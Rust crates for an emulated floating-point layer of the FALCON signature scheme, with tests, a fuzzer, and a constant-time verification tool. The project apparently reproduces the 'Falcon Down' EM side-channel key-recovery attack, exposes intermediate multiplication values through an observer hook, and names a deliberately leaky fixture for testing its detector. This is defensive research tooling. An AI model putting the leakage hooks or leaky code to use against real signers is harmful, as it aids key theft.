    fn record(&mut self, step: MulStep) {
        self.steps.push(step);
    }

    fn begin_coefficient(&mut self, index: usize) {
        self.boundaries.push((index, self.steps.len()));
    }
}
