//! Deterministic differential mini-fuzzer for the emulated arithmetic.
//!
//! Replaces the dropped external property-test harness with a
//! self-contained seeded loop: a xorshift64* stream drives ~10^5
//! structured-random operand pairs per class through add/mul/div/sqrt
//! and demands bit-for-bit agreement with the host's IEEE-754 doubles.
//! The operand classes are chosen to hit the corners a uniform
//! generator rarely reaches: near-equal cancellation, rounding-tie
//! mantissa boundaries, and extreme exponent spreads.
//!
//! The emulation flushes subnormal results to zero and has no
//! infinities, so cases whose *reference* result is nonzero non-normal
//! are skipped (counted, with a floor asserted so a bad generator
//! cannot silently skip everything).

use crate::repr::Fpr;

/// Operand pairs drawn per class; each pair exercises four operations.
const CASES: usize = 25_000;

/// xorshift64* — tiny, seedable, passes the diehard batteries that
/// matter for test-case diversity.
fn xorshift(state: &mut u64) -> u64 {
    let mut x = *state;
    x ^= x >> 12;
    x ^= x << 25;
    x ^= x >> 27;
    *state = x;
    x.wrapping_mul(0x2545_F491_4F6C_DD1D)
}

/// Assembles a finite normal double from parts. `exp` is unbiased and
/// must stay within [-1022, 1023].
fn make(sign: u64, exp: i32, mantissa: u64) -> f64 {
    debug_assert!((-1022..=1023).contains(&exp));
    let bits = (sign << 63) | (((exp + 1023) as u64) << 52) | (mantissa & ((1u64 << 52) - 1));
    f64::from_bits(bits)
}

/// Differential scoreboard: how many operations were checked vs skipped
/// (reference result nonzero non-normal — outside the emulated range).
#[derive(Default)]
struct Tally {
    checked: u64,
    skipped: u64,
}

impl Tally {
    fn check(&mut self, ctx: &str, a: f64, b: f64, got: Fpr, want: f64) {
        if want != 0.0 && !want.is_normal() {
            self.skipped += 1;
            return;
        }
        self.checked += 1;
        assert_eq!(
            got.to_bits(),
            want.to_bits(),
            "{ctx}: a={a:e} ({:#018x}) b={b:e} ({:#018x}) got {:#018x} want {:#018x}",
            a.to_bits(),
            b.to_bits(),
            got.to_bits(),
            want.to_bits()
        );
    }

    /// Runs one operand pair through all four operations.
    fn run_ops(&mut self, a: f64, b: f64) {
        let (x, y) = (Fpr::from(a), Fpr::from(b));
        self.check("add", a, b, x + y, a + b);
        self.check("mul", a, b, x * y, a * b);
        if b != 0.0 {
            self.check("div", a, b, x / y, a / b);
        }
        let abs_a = a.abs();
        self.check("sqrt", abs_a, 0.0, Fpr::from(abs_a).sqrt(), abs_a.sqrt());
    }

    /// At least `frac` of the generated operations must actually have
    /// been compared — a guard against a class generator drifting into
    /// all-skipped territory.
    fn assert_coverage(&self, frac: f64) {
        let total = self.checked + self.skipped;
        assert!(
            self.checked as f64 >= frac * total as f64,
            "only {}/{} operations checked",
            self.checked,
            total
        );
    }
}

#[test]
fn fuzz_moderate_operands() {
    // FALCON's working range: random mantissas, exponents in [-60, 60].
    let mut st = 0x6D6F_6465_7261_7465u64; // "moderate"
    let mut tally = Tally::default();
    for _ in 0..CASES {
        let draw = |st: &mut u64| {
            let m = xorshift(st);
            let e = (xorshift(st) % 121) as i32 - 60;
            make(xorshift(st) & 1, e, m)
        };
        let (a, b) = (draw(&mut st), draw(&mut st));
        tally.run_ops(a, b);
    }
    // Nothing in this range can leave the normal range.
    tally.assert_coverage(1.0);
}

#[test]
fn fuzz_near_equal_cancellation() {
    // b differs from a only in its lowest mantissa bits, so `a - b`
    // (here: a + (-b)) cancels almost every significant bit — the
    // regime where a sloppy normalisation or sticky-bit bug surfaces.
    let mut st = 0x6361_6E63_656Cu64; // "cancel"
    let mut tally = Tally::default();
    for _ in 0..CASES {
        let m = xorshift(&mut st);
        let e = (xorshift(&mut st) % 121) as i32 - 60;
        let s = xorshift(&mut st) & 1;
        let a = make(s, e, m);
        let flip = xorshift(&mut st) & ((1u64 << (1 + (xorshift(&mut st) % 12))) - 1);
        let b = -f64::from_bits(a.to_bits() ^ flip);
        tally.run_ops(a, b);
    }
    tally.assert_coverage(0.95);
}

#[test]
fn fuzz_tie_boundary_mantissas() {
    // Mantissas with long runs of trailing zeros or ones sit exactly on
    // (or one ulp off) the round-to-nearest-even tie boundaries of the
    // product and quotient.
    let mut st = 0x7469_655F_6264u64; // "tie_bd"
    let mut tally = Tally::default();
    for _ in 0..CASES {
        let draw = |st: &mut u64| {
            let run = 20 + (xorshift(st) % 31); // 20..=50 low bits
            let mask = (1u64 << run) - 1;
            let m = if xorshift(st) & 1 == 0 {
                xorshift(st) & !mask // trailing zeros
            } else {
                xorshift(st) | mask // trailing ones
            };
            let e = (xorshift(st) % 41) as i32 - 20;
            make(xorshift(st) & 1, e, m)
        };
        let (a, b) = (draw(&mut st), draw(&mut st));
        tally.run_ops(a, b);
    }
    tally.assert_coverage(1.0);
}

#[test]
fn fuzz_extreme_exponent_spread() {
    // Operands near the edges of the normal range, and pairs whose
    // exponents differ by up to 120 (addition alignment drops the
    // smaller addend entirely past 59 positions — both sides of that
    // boundary are inside this spread).
    let mut st = 0x7370_7265_6164u64; // "spread"
    let mut tally = Tally::default();
    for _ in 0..CASES {
        let e1 = (xorshift(&mut st) % 1801) as i32 - 900;
        let e2 = e1 - (xorshift(&mut st) % 121) as i32;
        let a = make(xorshift(&mut st) & 1, e1, xorshift(&mut st));
        let b = make(xorshift(&mut st) & 1, e2.clamp(-1022, 1023), xorshift(&mut st));
        tally.run_ops(a, b);
    }
    // Products and quotients at ±900 routinely overflow/underflow the
    // normal range and are rightly skipped; the adds all survive.
    tally.assert_coverage(0.5);
}
