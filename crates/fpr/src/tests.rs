//! Unit and property tests for the emulated floating point.
//!
//! The oracle is the host's IEEE-754 double arithmetic: for normal
//! operands and results away from subnormal/overflow territory the
//! emulation must agree bit for bit.

use crate::observe::{Lane, MulStep, RecordingObserver};
use crate::repr::Fpr;

/// Deterministic splitmix64 stream for the seeded property loops below
/// (the test environment builds with no network access, so the property
/// tests use a self-contained generator instead of an external harness).
fn splitmix(state: &mut u64) -> u64 {
    *state = state.wrapping_add(0x9E37_79B9_7F4A_7C15);
    let mut z = *state;
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

/// Number of pseudo-random cases per property.
const CASES: usize = 512;

fn assert_bits(got: Fpr, want: f64, ctx: &str) {
    assert_eq!(
        got.to_bits(),
        want.to_bits(),
        "{ctx}: got {:e} ({:#x}), want {:e} ({:#x})",
        got.to_f64(),
        got.to_bits(),
        want,
        want.to_bits()
    );
}

/// Doubles whose magnitude keeps intermediate results far away from both
/// subnormals and overflow — FALCON's working range: random mantissa
/// bits, exponent in [-60, 60], random sign.
fn moderate(state: &mut u64) -> f64 {
    let m = splitmix(state);
    let e = (splitmix(state) % 121) as i32 - 60;
    let s = splitmix(state) & 1 == 1;
    let frac = 1.0 + (m & ((1u64 << 52) - 1)) as f64 / (1u64 << 52) as f64;
    let v = frac * 2f64.powi(e);
    if s {
        -v
    } else {
        v
    }
}

/// Uniform double in `[-1e12, 1e12)`.
fn within_e12(state: &mut u64) -> f64 {
    let u = (splitmix(state) >> 11) as f64 / (1u64 << 53) as f64;
    (2.0 * u - 1.0) * 1.0e12
}

#[test]
fn add_matches_f64() {
    // Regression (former proptest shrink): a = 1.0, b = 1.0.
    assert_bits(Fpr::from(1.0) + Fpr::from(1.0), 2.0, "add regression");
    let mut st = 0x616464u64; // "add"
    for _ in 0..CASES {
        let (a, b) = (moderate(&mut st), moderate(&mut st));
        assert_bits(Fpr::from(a) + Fpr::from(b), a + b, "add");
    }
}

#[test]
fn sub_matches_f64() {
    let mut st = 0x737562u64;
    for _ in 0..CASES {
        let (a, b) = (moderate(&mut st), moderate(&mut st));
        assert_bits(Fpr::from(a) - Fpr::from(b), a - b, "sub");
    }
}

#[test]
fn mul_matches_f64() {
    let mut st = 0x6D756Cu64;
    for _ in 0..CASES {
        let (a, b) = (moderate(&mut st), moderate(&mut st));
        assert_bits(Fpr::from(a) * Fpr::from(b), a * b, "mul");
    }
}

#[test]
fn div_matches_f64() {
    let mut st = 0x646976u64;
    for _ in 0..CASES {
        let (a, b) = (moderate(&mut st), moderate(&mut st));
        assert_bits(Fpr::from(a) / Fpr::from(b), a / b, "div");
    }
}

#[test]
fn sqrt_matches_f64() {
    let mut st = 0x73717274u64;
    for _ in 0..CASES {
        let a = moderate(&mut st).abs();
        assert_bits(Fpr::from(a).sqrt(), a.sqrt(), "sqrt");
    }
}

#[test]
fn from_i64_matches_f64() {
    let mut st = 0x693634u64;
    for _ in 0..CASES {
        let i = splitmix(&mut st) as i64;
        assert_bits(Fpr::from_i64(i), i as f64, "from_i64");
    }
    for i in [0i64, 1, -1, i64::MAX, i64::MIN] {
        assert_bits(Fpr::from_i64(i), i as f64, "from_i64 edge");
    }
}

#[test]
fn scaled_matches_f64() {
    let mut st = 0x7363616Cu64;
    for _ in 0..CASES {
        let i = splitmix(&mut st) as i64;
        let sc = (splitmix(&mut st) % 401) as i32 - 200;
        assert_bits(Fpr::scaled(i, sc), i as f64 * 2f64.powi(sc), "scaled");
    }
}

#[test]
fn rint_matches_f64() {
    let mut st = 0x72696E74u64;
    for _ in 0..CASES {
        let a = within_e12(&mut st);
        assert_eq!(Fpr::from(a).rint(), a.round_ties_even() as i64, "rint({a})");
    }
}

#[test]
fn floor_matches_f64() {
    let mut st = 0x666C6F6Fu64;
    for _ in 0..CASES {
        let a = within_e12(&mut st);
        assert_eq!(Fpr::from(a).floor(), a.floor() as i64, "floor({a})");
    }
}

#[test]
fn trunc_matches_f64() {
    let mut st = 0x7472756Eu64;
    for _ in 0..CASES {
        let a = within_e12(&mut st);
        assert_eq!(Fpr::from(a).trunc(), a.trunc() as i64, "trunc({a})");
    }
}

#[test]
fn half_double_roundtrip() {
    let mut st = 0x68616C66u64;
    for _ in 0..CASES {
        let a = moderate(&mut st);
        let x = Fpr::from(a);
        assert_eq!(x.double().half(), x);
        assert_bits(x.double(), a * 2.0, "double");
        assert_bits(x.half(), a / 2.0, "half");
    }
}

#[test]
fn comparisons_match_f64() {
    let mut st = 0x636D70u64;
    for _ in 0..CASES {
        let (a, b) = (moderate(&mut st), moderate(&mut st));
        assert_eq!(Fpr::from(a).lt(Fpr::from(b)), a < b, "lt({a}, {b})");
        assert_eq!(Fpr::from(a).le(Fpr::from(b)), a <= b, "le({a}, {b})");
    }
}

#[test]
fn mul_observed_equals_mul() {
    let mut st = 0x6F6273u64;
    for _ in 0..CASES {
        let (a, b) = (moderate(&mut st), moderate(&mut st));
        let mut obs = RecordingObserver::new();
        let x = Fpr::from(a);
        let y = Fpr::from(b);
        assert_eq!(x.mul_observed(y, &mut obs), x * y, "mul_observed({a}, {b})");
        // Execution order: mantissa pipeline, then exponent, then sign.
        let kinds: Vec<_> = obs.steps.iter().map(std::mem::discriminant).collect();
        assert_eq!(kinds.len(), 14);
    }
}

#[test]
fn zero_sign_rules() {
    let pz = Fpr::ZERO;
    let nz = Fpr::ZERO.neg();
    assert_bits(pz + nz, 0.0f64 + (-0.0), "+0 + -0");
    assert_bits(nz + nz, -0.0f64 + (-0.0), "-0 + -0");
    let x = Fpr::from(1.5);
    assert_bits(x - x, 0.0, "x - x");
    assert_bits(x.neg() + x, 0.0, "-x + x");
    assert_bits(x * pz, 1.5 * 0.0, "x * +0");
    assert_bits(x * nz, 1.5 * -0.0, "x * -0");
    assert_bits(x.neg() * pz, -1.5 * 0.0, "-x * +0");
}

#[test]
fn subnormal_results_flush_to_zero() {
    // 2^-1000 * 2^-100 underflows the normal range -> 0 in the emulation.
    let tiny = Fpr::from(2f64.powi(-1000)) * Fpr::from(2f64.powi(-100));
    assert!(tiny.is_zero());
    let neg = Fpr::from(-(2f64.powi(-1000))) * Fpr::from(2f64.powi(-100));
    assert!(neg.is_zero());
    assert_eq!(neg.sign_bit(), 1);
}

#[test]
fn paper_example_coefficient_decomposes() {
    // The coefficient from the paper's Section IV:
    // 0xC06017BC8036B580 -> sign 1, exponent 0x406, mantissa 0x017BC8036B580,
    // with high-order half 0x00BDE40 and low-order half 0x036B580
    // (53-bit mantissa including the implicit bit, split 28 | 25).
    let c = Fpr::from_bits(0xC060_17BC_8036_B580);
    assert_eq!(c.sign_bit(), 1);
    assert_eq!(c.exponent_bits(), 0x406);
    assert_eq!(c.mantissa_bits(), 0x017BC8036B580);
    let full = c.mantissa_bits() | (1u64 << 52);
    let lo = (full & 0x1FF_FFFF) as u32;
    let hi = (full >> 25) as u32;
    // Paper: lower-order bits 0x36B580, higher-order bits 0x00BDE40 (the
    // paper strips the implicit leading one; the device manipulates it).
    assert_eq!(lo, 0x36B580);
    assert_eq!(hi & 0x7F_FFFF, 0xBDE40);
    assert_eq!(hi, 0x80B_DE40);
    assert_eq!(((hi as u64) << 25) | lo as u64, full);
}

#[test]
fn observed_steps_expose_partial_products() {
    let x = Fpr::from(3.25);
    let y = Fpr::from(-7.5);
    let mut obs = RecordingObserver::new();
    let _ = x.mul_observed(y, &mut obs);
    let (_, _, xm) = (x.sign_bit(), x.exponent_bits(), x.mantissa_bits() | (1 << 52));
    let (_, _, ym) = (y.sign_bit(), y.exponent_bits(), y.mantissa_bits() | (1 << 52));
    let x0 = xm & 0x1FF_FFFF;
    let y0 = ym & 0x1FF_FFFF;
    let want = x0 * y0;
    let got = obs
        .steps
        .iter()
        .find_map(|s| match s {
            MulStep::PartialProduct { lane: Lane::LoLo, value } => Some(*value),
            _ => None,
        })
        .expect("LoLo partial product recorded");
    assert_eq!(got, want);
    // The sign xor must be 1 (positive * negative).
    assert!(obs.steps.iter().any(|s| matches!(s, MulStep::SignXor { value: 1 })));
}

#[test]
fn expm_p63_with_ccs() {
    let x = Fpr::from(0.25);
    let ccs = Fpr::from(0.73);
    let got = x.expm_p63(ccs) as f64;
    let want = 2f64.powi(63) * 0.73 * (-0.25f64).exp();
    assert!(((got - want) / want).abs() < 1e-13);
}

#[test]
fn rounding_tie_to_even_in_multiplication() {
    // (1 + 2^-52) * (1 + 2^-1): the product 1.5 + 1.5·2^-52 needs
    // rounding; check bit-exactness against the host on a family of
    // boundary-straddling operands.
    for k in 1..=8u32 {
        let a = f64::from_bits(0x3FF0_0000_0000_0000 + k as u64); // 1 + k·2^-52
        let b = 1.5f64;
        assert_bits(Fpr::from(a) * Fpr::from(b), a * b, "tie boundary mul");
        assert_bits(Fpr::from(a) * Fpr::from(a), a * a, "self square boundary");
    }
}

#[test]
fn addition_alignment_drop_boundary() {
    // The emulation drops the smaller addend entirely beyond 59 shift
    // positions; IEEE agrees because it is below half an ulp.
    let big = 2f64.powi(80);
    for e in [55, 58, 59, 60, 61, 80, 120] {
        let small = 2f64.powi(80 - e);
        assert_bits(Fpr::from(big) + Fpr::from(small), big + small, "align add");
        assert_bits(Fpr::from(big) - Fpr::from(small), big - small, "align sub");
    }
}

#[test]
fn rint_ties_to_even() {
    for (v, want) in [(0.5, 0i64), (1.5, 2), (2.5, 2), (-0.5, 0), (-1.5, -2), (-2.5, -2)] {
        assert_eq!(Fpr::from(v).rint(), want, "rint({v})");
    }
}

#[test]
fn floor_and_trunc_at_negative_boundaries() {
    for (v, fl, tr) in [(-1.0, -1i64, -1i64), (-1.25, -2, -1), (-0.75, -1, 0), (0.75, 0, 0)] {
        assert_eq!(Fpr::from(v).floor(), fl, "floor({v})");
        assert_eq!(Fpr::from(v).trunc(), tr, "trunc({v})");
    }
}

#[test]
fn scaled_extremes() {
    assert_bits(Fpr::scaled(i64::MAX, 0), i64::MAX as f64, "scaled max");
    assert_bits(Fpr::scaled(i64::MIN, 0), i64::MIN as f64, "scaled min");
    assert_bits(Fpr::scaled(1, -1074 + 60), 2f64.powi(-1014), "scaled tiny");
    assert_bits(Fpr::scaled(-3, 100), -3.0 * 2f64.powi(100), "scaled big negative");
}

#[test]
fn sqrt_exact_squares_and_boundaries() {
    for v in [1.0f64, 4.0, 9.0, 2.0, 0.5, 1e-300, 1e300] {
        assert_bits(Fpr::from(v).sqrt(), v.sqrt(), "sqrt");
    }
    assert!(Fpr::ZERO.sqrt().is_zero());
}

#[test]
fn display_and_debug_are_nonempty() {
    let x = Fpr::from(-2.5);
    assert_eq!(format!("{x}"), "-2.5");
    assert!(format!("{x:?}").contains("Fpr"));
    assert_eq!(format!("{:#018x}", x), "0xc004000000000000");
}
