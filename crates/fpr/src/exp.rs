//! Fixed-point exponential for the discrete Gaussian sampler.

use crate::repr::Fpr;

/// Number of Taylor terms used by [`Fpr::expm_p63`]. With `x <= ln 2` the
/// truncation error is below 2^-63.
const TERMS: u32 = 21;

/// `(a * b) >> 63` for 63-bit fixed-point operands.
#[inline]
fn mul63(a: u64, b: u64) -> u64 {
    (((a as u128) * (b as u128)) >> 63) as u64
}

impl Fpr {
    /// Computes `⌊2^63 · ccs · exp(-x)⌋` (up to a few ulps) for
    /// `0 <= x <= ln 2` and `0 < ccs <= 1`.
    ///
    /// This is the reference implementation's `fpr_expm_p63`, realised
    /// with a truncated Taylor series in 63-bit fixed point instead of the
    /// reference's minimax constants; the relative error stays below
    /// 2^-57, which is far inside the sampler's statistical tolerance
    /// (documented substitution, see DESIGN.md §7).
    pub fn expm_p63(self, ccs: Fpr) -> u64 {
        crate::ctcheck::site(crate::ctcheck::sites::EXPM);
        // ct: secret(self, ccs)
        let x = self.to_fixed63();
        // Horner evaluation of sum_k (-x)^k / k! using unsigned fixed
        // point: y_k = 1/k-ish coefficients precomputed as 2^63 / k!.
        let mut y: u64 = coeff(TERMS - 1);
        for k in (0..TERMS - 1).rev() {
            crate::ctcheck::site(crate::ctcheck::sites::EXPM_LOOP);
            y = coeff(k).wrapping_sub(mul63(x, y));
        }
        // ccs ≤ 1 converts to a fixed-point scale in [0, 2^63]; the
        // endpoint ccs = 1 maps to exactly 2^63, for which mul63 is the
        // identity, so no special case (and no secret-dependent branch)
        // is needed.
        mul63(y, ccs.to_fixed63())
        // ct: end
    }
}

/// `round(2^63 / k!)` computed exactly in 128-bit arithmetic.
fn coeff(k: u32) -> u64 {
    let mut fact: u128 = 1;
    for i in 2..=k as u128 {
        fact *= i;
    }
    (((1u128 << 63) + fact / 2) / fact) as u64
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn coeff_values() {
        assert_eq!(coeff(0), 1u64 << 63);
        assert_eq!(coeff(1), 1u64 << 63);
        assert_eq!(coeff(2), 1u64 << 62);
    }

    #[test]
    fn matches_host_exp() {
        for i in 0..=100 {
            let x = std::f64::consts::LN_2 * (i as f64) / 100.0;
            let got = Fpr::from(x).expm_p63(Fpr::ONE) as f64;
            let want = (2.0f64.powi(63)) * (-x).exp();
            let rel = ((got - want) / want).abs();
            assert!(rel < 1e-14, "x={x} got={got} want={want} rel={rel}");
        }
    }
}
