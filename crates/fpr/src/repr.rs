//! The `Fpr` value type: bit layout, packing and elementary predicates.

use core::fmt;

/// Mask of the 52 stored mantissa bits.
pub(crate) const MANT_MASK: u64 = (1u64 << 52) - 1;
/// Mask of the 11 exponent bits (after shifting right by 52).
pub(crate) const EXP_MASK: u64 = 0x7FF;

/// A FALCON emulated floating-point number.
///
/// The wrapped `u64` uses the IEEE-754 double-precision bit layout
/// (sign ∙ 11-bit biased exponent ∙ 52-bit mantissa). Arithmetic is pure
/// integer emulation with round-to-nearest-even and flush-to-zero for
/// subnormals, exactly like FALCON's reference `fpr` type.
///
/// `PartialEq`/`Eq`/`Hash` compare the raw bits, so `+0.0 != -0.0`; use
/// [`Fpr::is_zero`] for a sign-insensitive zero test. Ordering helpers are
/// provided as [`Fpr::lt`] and friends rather than `PartialOrd`, mirroring
/// the reference API and avoiding surprises around signed zero.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Default)]
pub struct Fpr(pub(crate) u64);

impl Fpr {
    /// Positive zero.
    pub const ZERO: Fpr = Fpr(0);
    /// One.
    pub const ONE: Fpr = Fpr(0x3FF0_0000_0000_0000);
    /// Two.
    pub const TWO: Fpr = Fpr(0x4000_0000_0000_0000);
    /// One half.
    pub const ONEHALF: Fpr = Fpr(0x3FE0_0000_0000_0000);

    /// Builds an `Fpr` from its raw IEEE-754 bit pattern.
    ///
    /// ```
    /// use falcon_fpr::Fpr;
    /// assert_eq!(Fpr::from_bits(0x3FF0_0000_0000_0000), Fpr::ONE);
    /// ```
    #[inline]
    pub const fn from_bits(bits: u64) -> Fpr {
        Fpr(bits)
    }

    /// Returns the raw IEEE-754 bit pattern.
    #[inline]
    pub const fn to_bits(self) -> u64 {
        self.0
    }

    /// Sign bit (0 for positive, 1 for negative).
    #[inline]
    pub const fn sign_bit(self) -> u32 {
        (self.0 >> 63) as u32
    }

    /// Biased 11-bit exponent field.
    #[inline]
    pub const fn exponent_bits(self) -> u32 {
        ((self.0 >> 52) & EXP_MASK) as u32
    }

    /// The 52 stored mantissa bits (without the implicit leading one).
    #[inline]
    pub const fn mantissa_bits(self) -> u64 {
        self.0 & MANT_MASK
    }

    /// True if the value is (plus or minus) zero.
    ///
    /// FALCON's emulation flushes subnormals to zero, so a zero exponent
    /// field always denotes zero.
    #[inline]
    pub const fn is_zero(self) -> bool {
        self.0 & !(1u64 << 63) == 0
    }

    /// Negation (sign-bit flip; `-0.0` is produced from `0.0`).
    #[inline]
    pub const fn neg(self) -> Fpr {
        Fpr(self.0 ^ (1u64 << 63))
    }

    /// Absolute value.
    #[inline]
    pub const fn abs(self) -> Fpr {
        Fpr(self.0 & !(1u64 << 63))
    }

    /// Doubles the value (exponent increment; zero stays zero).
    #[inline]
    pub fn double(self) -> Fpr {
        crate::ctcheck::site(crate::ctcheck::sites::DOUBLE);
        // ct: secret(self)
        // Exponent increment, masked to a no-op for (signed) zero so the
        // special case costs no branch.
        let nz = (!self.is_zero() as u64).wrapping_neg();
        Fpr(self.0.wrapping_add((1u64 << 52) & nz))
        // ct: end
    }

    /// Halves the value (exponent decrement, flushing to zero on underflow).
    #[inline]
    pub fn half(self) -> Fpr {
        crate::ctcheck::site(crate::ctcheck::sites::HALF);
        // ct: secret(self)
        // A zero exponent field (i.e. zero — subnormals are flushed)
        // keeps only the sign bit; otherwise the exponent is decremented.
        let nz = ((self.exponent_bits() != 0) as u64).wrapping_neg();
        let dec = self.0.wrapping_sub(1u64 << 52) & nz;
        Fpr(dec | (self.0 & (1u64 << 63) & !nz))
        // ct: end
    }

    /// Strictly-less-than comparison on the represented real values.
    #[inline]
    pub fn lt(self, rhs: Fpr) -> bool {
        cmp_total(self, rhs) == core::cmp::Ordering::Less
    }

    /// Less-than-or-equal comparison on the represented real values.
    #[inline]
    pub fn le(self, rhs: Fpr) -> bool {
        cmp_total(self, rhs) != core::cmp::Ordering::Greater
    }

    /// Packs sign `s`, unbiased exponent `e` and a 55-bit mantissa `m`
    /// (`2^54 <= m < 2^55`, or 0) into an `Fpr`, rounding the two excess
    /// low bits to nearest-even. The represented value is `(-1)^s · m · 2^e`.
    ///
    /// Exponents below the normal range flush the result to (signed) zero.
    /// Overflow above the range cannot occur on FALCON's value domain and
    /// is unspecified, matching the reference implementation.
    pub(crate) fn build(s: u32, e: i32, m: u64) -> Fpr {
        debug_assert!(m == 0 || (m >> 54) == 1, "mantissa out of range: {m:#x}");
        crate::ctcheck::site(crate::ctcheck::sites::BUILD);
        // ct: secret(s, e, m)
        let e = e + 1076;
        // All-ones when the result is a normal number; a zero mantissa or
        // an underflowed exponent flushes to signed zero through the mask
        // instead of an early return.
        let live = (((m != 0) & (e >= 0)) as u64).wrapping_neg();
        // Clamp the exponent to zero on the flushed lane so the shift
        // below stays in range (the lane is masked out anyway).
        let ec = (e & !(e >> 31)) as u64;
        // Round-to-nearest-even on the two dropped bits: round up when the
        // dropped bits are 0b11, or 0b10 with an odd kept mantissa.
        let f = (m & 3) as u32;
        let kept = m >> 2;
        let round_up = ((f >> 1) & (f | (kept as u32)) & 1) as u64;
        // Adding the exponent field lets a rounding carry out of the
        // mantissa propagate into the exponent, which is exactly the
        // correct renormalisation (mantissa 2^53 -> 2^52, exponent + 1).
        let x = (((s as u64) << 63) | kept).wrapping_add(ec << 52).wrapping_add(round_up);
        Fpr((x & live) | (((s as u64) << 63) & !live))
        // ct: end
    }

    /// Decomposes into (sign, biased exponent field, 53-bit mantissa with
    /// the implicit bit, valid only when the exponent field is nonzero).
    #[inline]
    pub(crate) fn unpack(self) -> (u32, i32, u64) {
        let s = self.sign_bit();
        let e = self.exponent_bits() as i32;
        let m = self.mantissa_bits() | (1u64 << 52);
        (s, e, m)
    }
}

fn cmp_total(a: Fpr, b: Fpr) -> core::cmp::Ordering {
    // Compare as sign-magnitude integers; the IEEE layout is monotonic in
    // the non-negative range.
    let (sa, sb) = (a.sign_bit(), b.sign_bit());
    let (ma, mb) = (a.0 & !(1u64 << 63), b.0 & !(1u64 << 63));
    if ma == 0 && mb == 0 {
        return core::cmp::Ordering::Equal; // +-0 == +-0
    }
    match (sa, sb) {
        (0, 0) => ma.cmp(&mb),
        (1, 1) => mb.cmp(&ma),
        (1, 0) => core::cmp::Ordering::Less,
        _ => core::cmp::Ordering::Greater,
    }
}

impl fmt::Debug for Fpr {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "Fpr({:e} = {:#018x})", self.to_f64(), self.0)
    }
}

impl fmt::Display for Fpr {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        fmt::Display::fmt(&self.to_f64(), f)
    }
}

impl fmt::LowerHex for Fpr {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        fmt::LowerHex::fmt(&self.0, f)
    }
}

impl fmt::UpperHex for Fpr {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        fmt::UpperHex::fmt(&self.0, f)
    }
}
