//! Constant-time verification for the Falcon Down reproduction.
//!
//! *Falcon Down* (DAC 2021) recovers FALCON signing keys from EM
//! leakage of the `FFT(c) ⊙ FFT(f)` multiplication — leakage that
//! exists because the emulated floating-point pipeline processes
//! secret-derived values. Defensive hardening of that pipeline (and of
//! the sampler feeding it) only holds if the code stays constant time
//! as it evolves; this crate enforces that with three static passes and
//! one dynamic one:
//!
//! 1. **A region lint** ([`lint`], statement-level): regions annotated
//!    `// ct: secret(…)` are checked, with binding-level taint
//!    propagation across stitched multi-line statements, for
//!    secret-dependent branches, memory indexing, `/`/`%`,
//!    short-circuit booleans, and calls to non-allowlisted functions.
//! 2. **An interprocedural taint pass** ([`graph`] + [`summary`]):
//!    a lexical call graph over every workspace crate, with per-function
//!    [`summary::TaintSummary`] entries seeded from key-material types
//!    (`SigningKey`, `LdlTree`, `Secret`) and region annotations, then
//!    propagated across call edges to a fixpoint — so the same rules
//!    fire in functions nobody annotated. The `ct_graph` binary dumps
//!    the graph and asserts a discovery floor in CI.
//! 3. **Unsafe & determinism audits** ([`audit`]): `unsafe` is allowed
//!    only in the allowlisted SIMD modules and only under a `// SAFETY:`
//!    comment (enforced at zero findings today), and library code is
//!    screened for nondeterminism — `HashMap`/`HashSet` iteration in
//!    result paths, wall-clock reads, thread-id/env dependence, and
//!    float reduction folds outside the pinned kernels.
//! 4. **A dynamic trace checker** ([`dyncheck`], `ct_dyn` binary):
//!    every `falcon-fpr` primitive runs over fixed-vs-random secret
//!    operand classes (dudect style) with the `ct-check` trace hooks
//!    armed, and the recorded control-flow signatures must be
//!    identical. The deliberately leaky [`dyncheck::fpr_mul_leaky`]
//!    fixture must be *flagged*, proving the detector works.
//!
//! All static findings share one content-addressed fingerprint scheme
//! and compare against a checked-in [baseline](baseline) so CI fails
//! only on regressions; `ct_lint --update-baseline` prints the exact
//! added/removed diff for review. The static passes catch what never
//! executes in a test run; the dynamic pass catches what the lexer
//! cannot see (macro-expanded or callee-internal branches). Run all:
//!
//! ```text
//! cargo run -p falcon-ct --bin ct_lint -- --baseline ct-baseline.jsonl
//! cargo run -p falcon-ct --bin ct_dyn
//! cargo run -p falcon-ct --bin ct_graph -- --assert-discoveries 10
//! ```

#![forbid(unsafe_code)]

pub mod audit;
pub mod baseline;
pub mod dyncheck;
pub mod graph;
pub mod lint;
pub mod report;
pub mod rules;
pub mod scan;
pub mod secret;
pub mod summary;

pub use baseline::Baseline;
pub use graph::CallGraph;
pub use lint::{lint_source, lint_tree, FileOutcome, Rule, TreeOutcome, Violation};
pub use rules::CallAllowlist;
pub use secret::Secret;
pub use summary::TaintMap;
