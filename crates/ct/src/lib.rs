//! Constant-time verification for the Falcon Down reproduction.
//!
//! *Falcon Down* (DAC 2021) recovers FALCON signing keys from EM
//! leakage of the `FFT(c) ⊙ FFT(f)` multiplication — leakage that
//! exists because the emulated floating-point pipeline processes
//! secret-derived values. Defensive hardening of that pipeline (and of
//! the sampler feeding it) only holds if the code stays constant time
//! as it evolves; this crate enforces that with four static passes and
//! one dynamic one:
//!
//! 1. **A region lint** ([`lint`], statement-level): regions annotated
//!    `// ct: secret(…)` are checked, with **flow-sensitive** taint
//!    states (gen on tainted right-hand sides, kill on public
//!    rebindings, union-join at brace scopes) propagated across
//!    stitched multi-line statements, for secret-dependent branches,
//!    memory indexing, `/`/`%`, short-circuit booleans, and calls to
//!    non-allowlisted functions. `// ct: public(path)` declares
//!    **field-level** exemptions (`sk.logn` is public even though `sk`
//!    is secret).
//! 2. **An interprocedural taint pass** ([`graph`] + [`summary`] +
//!    [`fields`]): a lexical call graph over every workspace crate,
//!    with per-function [`summary::TaintSummary`] entries seeded from
//!    key-material types (`SigningKey`, `LdlTree`, `Secret`) — minus
//!    their `ct: public` struct fields — and region annotations, then
//!    propagated across call edges to a fixpoint with the same
//!    flow-sensitive replay, so the same rules fire in functions nobody
//!    annotated. The `ct_graph` binary dumps the graph (including
